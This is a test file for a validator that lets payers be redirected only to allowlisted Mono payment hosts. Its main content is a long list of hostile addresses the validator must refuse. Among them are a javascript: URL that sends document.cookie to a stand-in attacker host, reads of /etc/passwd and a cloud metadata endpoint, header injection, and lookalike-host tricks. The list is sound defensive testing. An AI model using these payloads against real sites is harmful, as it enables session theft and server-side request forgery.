import { describe, expect, test } from 'vitest';
import { createToPage, isPageHost } from './translate-page.ts';

const documented = ['checkout.mono.co', 'authorise.mono.co', 'link.mono.co'];
const toPage = createToPage(documented, 'live');
const here = createToPage(['127.0.0.1:4010', 'localhost:4010', '[::1]:4010', 'checkout.mono.co'], 'test');

describe('a payer is sent', () => {
  test.each([
    'https://checkout.mono.co/ODW2QV0WLIDG',
    'https://authorise.mono.co/RD3044259',
    'https://link.mono.co/ALGSTO222222WE',
    'https://checkout.mono.co',
    'https://checkout.mono.co/',
    'https://checkout.mono.co/pay?id=ODW2QV0WLIDG&lang=en#top',
    'https://authorise.mono.co/RC227914%2F1580%2F0015154303',
    `https://checkout.mono.co/${'a'.repeat(1900)}`,
  ])('to %s, as it stands', (address) => {
    expect(toPage(address)?.url.open()).toBe(new URL(address).href);
  });

  test.each([
    'http://127.0.0.1:4010/pages/pay/ODW2QV0WLIDG',
    'http://localhost:4010/pages/pay/ODW2QV0WLIDG',
    'http://[::1]:4010/pages/pay/ODW2QV0WLIDG',
    'https://127.0.0.1:4010/pages/pay/ODW2QV0WLIDG',
  ])('to %s of this machine with a test key', (address) => {
    expect(here(address)?.url.open()).toBe(address);
  });

  test('to an address that is written with dots as the browser will read it', () => {
    expect(toPage('https://checkout.mono.co/a/../b')?.url.open()).toBe('https://checkout.mono.co/b');
  });
});

const hostile: readonly (readonly [string, string])[] = [
  ['another host', 'https://evil.example/ODW2QV0WLIDG'],
  ['the host as a part of another one', 'https://checkout.mono.co.evil.example/ODW2QV0WLIDG'],
  ['the host behind another one', 'https://evilcheckout.mono.co/ODW2QV0WLIDG'],
  ['a host below', 'https://x.checkout.mono.co/ODW2QV0WLIDG'],
  ['the host above', 'https://mono.co/ODW2QV0WLIDG'],
  ['another host of the provider’s', 'https://api.mono.co/ODW2QV0WLIDG'],
  ['the host in the path', 'https://evil.example/checkout.mono.co/ODW2QV0WLIDG'],
  ['the host in the query', 'https://evil.example/?https://checkout.mono.co/'],
  ['the host in the fragment', 'https://evil.example/#https://checkout.mono.co/'],
  ['the host with a dot behind it', 'https://checkout.mono.co./ODW2QV0WLIDG'],
  ['the host with two dots behind it', 'https://checkout.mono.co../ODW2QV0WLIDG'],
  ['a hyphen in place of a dot', 'https://checkout-mono.co/ODW2QV0WLIDG'],
  ['another ending', 'https://checkout.mono.com/ODW2QV0WLIDG'],
  ['a letter less', 'https://checkout.mon.co/ODW2QV0WLIDG'],
  ['the host as a user name', 'https://checkout.mono.co@evil.example/ODW2QV0WLIDG'],
  ['the host as a user name with a password', 'https://checkout.mono.co:x@evil.example/ODW2QV0WLIDG'],
  ['a user name before the host', 'https://user@checkout.mono.co/ODW2QV0WLIDG'],
  ['a password before the host', 'https://user:pass@checkout.mono.co/ODW2QV0WLIDG'],
  ['an empty user name before the host', 'https://@checkout.mono.co/ODW2QV0WLIDG'],
  ['an empty password before the host', 'https://:@checkout.mono.co/ODW2QV0WLIDG'],
  ['two user names', 'https://checkout.mono.co@evil.example@checkout.mono.co/'],
  ['an encoded @', 'https://checkout.mono.co%40evil.example/ODW2QV0WLIDG'],
  ['another port', 'https://checkout.mono.co:8443/ODW2QV0WLIDG'],
  ['its own port, written out', 'https://checkout.mono.co:443/ODW2QV0WLIDG'],
  ['the port of plain http', 'https://checkout.mono.co:80/ODW2QV0WLIDG'],
  ['an empty port', 'https://checkout.mono.co:/ODW2QV0WLIDG'],
  ['a port with zeros before it', 'https://checkout.mono.co:0443/ODW2QV0WLIDG'],
  ['a port that is none', 'https://checkout.mono.co:x/ODW2QV0WLIDG'],
  ['a port that is too high', 'https://checkout.mono.co:65536/ODW2QV0WLIDG'],
  ['no encryption', 'http://checkout.mono.co/ODW2QV0WLIDG'],
  ['no encryption and the port of https', 'http://checkout.mono.co:443/ODW2QV0WLIDG'],
  ['a script', "javascript:fetch('https://evil.example/'+document.cookie)"],
  ['a script on the host', 'javascript://checkout.mono.co/%0aalert(1)'],
  ['a script in other letters', 'JaVaScRiPt:alert(1)'],
  ['a script behind a space', ' javascript:alert(1)'],
  ['a script with a tab in it', 'java\tscript:alert(1)'],
  ['a script with a line break in it', 'java\nscript:alert(1)'],
  ['a script behind a control character', '\u0001javascript:alert(1)'],
  ['a page in the address', 'data:text/html,<script>parent.postMessage("paid","*")</script>'],
  ['a page in the address, encoded', 'data:text/html;base64,PHNjcmlwdD4='],
  ['a page of the browser’s', 'about:blank'],
  ['a made page', 'blob:https://checkout.mono.co/0e1c1d2e'],
  ['a file', 'file:///etc/passwd'],
  ['a file of a host', 'file://checkout.mono.co/ODW2QV0WLIDG'],
  ['a source view', 'view-source:https://checkout.mono.co/'],
  ['an app', 'intent://checkout.mono.co/#Intent;scheme=https;end'],
  ['an app of the provider’s', 'mono://checkout.mono.co/ODW2QV0WLIDG'],
  ['a file transfer', 'ftp://checkout.mono.co/ODW2QV0WLIDG'],
  ['a socket', 'wss://checkout.mono.co/ODW2QV0WLIDG'],
  ['a VBScript', 'vbscript:msgbox(1)'],
  ['no scheme', '//checkout.mono.co/ODW2QV0WLIDG'],
  ['no scheme and no slashes', 'checkout.mono.co/ODW2QV0WLIDG'],
  ['a path', '/ODW2QV0WLIDG'],
  ['a scheme without slashes', 'https:checkout.mono.co/ODW2QV0WLIDG'],
  ['a scheme with one slash', 'https:/checkout.mono.co/ODW2QV0WLIDG'],
  ['a scheme with three slashes', 'https:///checkout.mono.co/ODW2QV0WLIDG'],
  ['a scheme in capitals', 'HTTPS://checkout.mono.co/ODW2QV0WLIDG'],
  ['a host in capitals', 'https://CHECKOUT.mono.co/ODW2QV0WLIDG'],
  ['backslashes for slashes', 'https:\\\\checkout.mono.co\\ODW2QV0WLIDG'],
  ['a backslash before the host', 'https:/\\checkout.mono.co/ODW2QV0WLIDG'],
  ['a backslash behind another host', 'https://evil.example\\@checkout.mono.co/'],
  ['a backslash behind the host', 'https://checkout.mono.co\\@evil.example/'],
  ['a backslash in the path', 'https://checkout.mono.co/\\evil.example'],
  ['a space before it', ' https://checkout.mono.co/ODW2QV0WLIDG'],
  ['a space behind it', 'https://checkout.mono.co/ODW2QV0WLIDG '],
  ['a space in it', 'https://checkout.mono.co/ODW2 QV0WLIDG'],
  ['a tab in the host', 'https://checkout\t.mono.co/ODW2QV0WLIDG'],
  ['a line break in the host', 'https://check\nout.mono.co/ODW2QV0WLIDG'],
  ['a return in the path', 'https://checkout.mono.co/\r\nLocation:%20https://evil.example'],
  ['a zero in the host', 'https://checkout.mono.co\u0000.evil.example/'],
  ['an encoded zero in the host', 'https://checkout.mono.co%00.evil.example/'],
  ['an encoded dot in the host', 'https://checkout%2emono.co/ODW2QV0WLIDG'],
  ['an encoded slash behind the host', 'https://checkout.mono.co%2f.evil.example/'],
  ['an encoded letter in the host', 'https://%63heckout.mono.co/ODW2QV0WLIDG'],
  ['a Cyrillic letter', 'https://check\u043eut.mono.co/ODW2QV0WLIDG'],
  ['its punycode', 'https://xn--checkut-jpf.mono.co/ODW2QV0WLIDG'],
  ['full-width letters', 'https://\uff43heckout.mono.co/ODW2QV0WLIDG'],
  ['an ideographic full stop', 'https://checkout\u3002mono.co/ODW2QV0WLIDG'],
  ['a full-width full stop', 'https://checkout\uff0emono.co/ODW2QV0WLIDG'],
  ['a soft hyphen', 'https://check\u00adout.mono.co/ODW2QV0WLIDG'],
  ['a zero-width space', 'https://checkout.mono.co\u200b/ODW2QV0WLIDG'],
  ['a turn of direction', 'https://checkout.mono.co/\u202egnp.ecalp'],
  ['an account-of sign for a slash', 'https://checkout.mono.co\u2100evil.example/'],
  ['a fraction slash', 'https://checkout.mono.co\u2044evil.example/'],
  ['this machine', 'https://127.0.0.1/ODW2QV0WLIDG'],
  ['this machine by its name', 'https://localhost/ODW2QV0WLIDG'],
  ['this machine as a number', 'https://2130706433/ODW2QV0WLIDG'],
  ['an address of the cloud’s', 'http://169.254.169.254/latest/meta-data'],
  ['nothing', ''],
  ['a scheme alone', 'https://'],
  ['more than an address holds', `https://checkout.mono.co/${'a'.repeat(2000)}`],
];

test.each(hostile)('nobody is sent to %s: %j', (_, address) => {
  expect(toPage(address)).toBeUndefined();
});

test('there are sixty hostile addresses or more, none of them twice', () => {
  const addresses = hostile.map(([, address]) => address);
  expect(new Set(addresses).size).toBe(addresses.length);
  expect(addresses.length).toBeGreaterThanOrEqual(60);
});

test.each([
  ['http to a host of the provider’s', 'http://checkout.mono.co/ODW2QV0WLIDG'],
  ['another port of this machine', 'http://127.0.0.1:4011/pages/pay/x'],
  ['this machine as a number', 'http://2130706433:4010/pages/pay/x'],
  ['this machine in few digits', 'http://127.1:4010/pages/pay/x'],
  ['this machine in octal digits', 'http://0177.0.0.1:4010/pages/pay/x'],
  ['a user name on this machine', 'http://x@127.0.0.1:4010/pages/pay/x'],
  ['every address of this machine', 'http://0.0.0.0:4010/pages/pay/x'],
  ['this machine within IPv6', 'http://[::ffff:127.0.0.1]:4010/pages/pay/x'],
])('not even a test key sends anybody to %s', (_, address) => {
  expect(here(address)).toBeUndefined();
});

test('plain http to this machine is not for live keys, whatever hosts are configured', () => {
  const live = createToPage(['127.0.0.1:4010'], 'live');
  expect(live('http://127.0.0.1:4010/pages/pay/x')).toBeUndefined();
  expect(live('https://127.0.0.1:4010/pages/pay/x')?.url.open()).toBe('https://127.0.0.1:4010/pages/pay/x');
});

test.each([
  undefined,
  null,
  7,
  true,
  {},
  [],
  ['https://checkout.mono.co/x'],
  new URL('https://checkout.mono.co/x'),
])('what is no text is no address: %j', (address) => {
  expect(toPage(address)).toBeUndefined();
});

test('an address shows itself to nobody but who opens it', () => {
  const page = toPage('https://checkout.mono.co/ODW2QV0WLIDG');
  expect(JSON.stringify(page)).toBe('{"url":"[sealed]"}');
});

test.each([
  ['checkout.mono.co', true],
  ['127.0.0.1:4010', true],
  ['[::1]:4010', true],
  ['checkout.mono.co:443', false],
  ['Checkout.mono.co', false],
  ['*.mono.co', false],
  ['https://checkout.mono.co', false],
  ['checkout.mono.co/pay', false],
  ['user@checkout.mono.co', false],
  ['checkout.mono.co?', false],
  ['', false],
])('%j as a host to be configured: %s', (host, isOne) => {
  expect(isPageHost(host)).toBe(isOne);
});
